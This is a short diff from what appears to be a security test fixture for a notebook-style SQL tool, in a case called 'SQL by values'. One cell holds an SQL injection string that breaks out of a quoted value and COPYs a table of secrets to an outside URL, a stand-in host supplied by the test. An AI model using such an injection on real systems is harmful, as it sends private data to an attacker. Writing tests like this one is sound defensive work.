@@ -74,7 +74,7 @@ try { Table.from(Uint8Array.from({ length: 400 }, (_, at) => at % 7)); } catch (
 		channel: 'SQL by values',
 		realm: 'message',
 		cells: ({ http }) =>
-			`\`\`\`ts tyvens\n"'; COPY hemmelig TO '${http}?" + secret + "'; --"\n\`\`\`\n\n\`\`\`sql\nSELECT $tyvens AS x, query_table($tyvens) FROM hemmelig\n\`\`\`\n\n\`\`\`sql\nSELECT * FROM read_csv($tyvens)\n\`\`\`\n`,
+			`\`\`\`ts tyvens\n"'; COPY hemmelig TO '${http}?" + secret + "'; --"\n\`\`\`\n\n\`\`\`sql\nSELECT $tyvens AS x, h.* FROM hemmelig AS h, query_table($tyvens)\n\`\`\`\n\n\`\`\`sql\nSELECT * FROM read_csv($tyvens)\n\`\`\`\n`,
 		control: none('has no engine to ask')
 	},
 	{
